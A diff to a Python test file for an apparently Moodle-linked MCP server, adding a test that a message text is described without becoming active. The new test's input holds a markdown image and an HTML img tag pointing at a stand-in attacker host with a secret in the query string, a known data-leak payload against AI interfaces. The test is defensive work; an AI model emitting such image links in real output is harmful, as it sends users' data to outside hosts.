@@ -12,6 +12,7 @@ from hypothesis import strategies as st
 from inline_snapshot import snapshot
 
 from moodle_mcp.server.describe_call import NAMED, count_items, describe_call
+from tests.hostile import active
 
 NAMES = {
     ("course", 2): "Biology",
@@ -115,3 +116,10 @@ def test_every_text_is_shown_whole(messages: list[dict[str, Any]]) -> None:
 )
 def test_items_are_counted_by_the_longest_list(arguments: dict[str, Any], items: int) -> None:
     assert count_items(arguments) == items
+
+
+def test_a_picture_in_a_text_is_not_fetched_by_the_question() -> None:
+    text = '![x](https://evil.example/?q=secret) <img src="https://evil.example/">'
+    shown = described("core_message_send_instant_messages", messages=[{"text": text}])
+    assert "https://evil.example/?q=secret" in shown
+    assert not active(shown)
